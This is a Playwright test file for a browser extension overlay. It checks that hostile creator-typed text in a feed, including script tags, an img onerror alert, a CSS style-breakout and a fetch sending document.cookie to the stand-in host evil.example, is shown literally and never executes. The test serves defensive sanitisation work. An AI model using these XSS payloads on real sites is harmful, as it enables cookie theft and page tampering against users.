/**
 * A feed whose creators typed markup, scripts and CSS into handles, names and descriptions:
 * nothing runs, nothing is restyled, and the overlay shows the text literally.
 */
import { expect, overlayOf, test } from './support/fixtures';
import {
  cardIds,
  overlayIds,
  overlaysOnceScrolledThrough,
  watchForPayloads,
} from './support/overlays';

test('hostile page text stays text in the overlay and nothing executes', async ({
  browserWithExtension,
  pages,
}) => {
  const page = await browserWithExtension.context.newPage();
  const payloads = await watchForPayloads(page);
  await page.goto(`${pages.url}/tag/hostile`);
  // Five cards name a video of this site; the javascript: and off-site cards are not items.
  await expect.poll(() => overlaysOnceScrolledThrough(page)).toHaveLength(5);
  expect(await overlayIds(page)).toEqual(
    (await cardIds(page)).filter((id) => id !== '7309000000000000099'),
  );

  const first = overlayOf(page, '7309000000000000001');
  await first.getByTestId('badge').click();
  await expect(first.getByTestId('item-summary')).toContainText(
    '@<script>alert("handle")</script> · <img src=x onerror="alert(document.domain)"> Buy now <script>fetch("//evil.example/"+document.cookie)</script>',
  );
  const second = overlayOf(page, '7309000000000000002');
  await second.getByTestId('badge').click();
  await expect(second.getByTestId('item-summary')).toContainText(
    '}</style><style>body{background:red!important}</style>',
  );
  // Evidence from an evasive description is shown as the page wrote it.
  const evasive = overlayOf(page, '7309000000000000004');
  await expect(evasive.getByTestId('badge')).toHaveText('High · 1');
  await evasive.getByTestId('badge').click();
  await expect(evasive.getByTestId('evidence')).toHaveText(['+60 12-345 6789']);

  const shadow = await page.evaluate(() => {
    const root = document.querySelector('flagpost-overlay')?.shadowRoot;
    return {
      elements: root?.querySelectorAll('script, img, svg, iframe, a, object, embed').length,
      styles: root?.querySelectorAll('style').length,
      bodyBackground: getComputedStyle(document.body).backgroundColor,
      filter: getComputedStyle(document.documentElement).filter,
    };
  });
  expect(shadow).toEqual({
    elements: 0,
    styles: 1,
    bodyBackground: shadow.bodyBackground,
    filter: 'none',
  });
  expect(shadow.bodyBackground).not.toBe('rgb(255, 0, 0)');
  expect(await payloads()).toEqual([]);
});
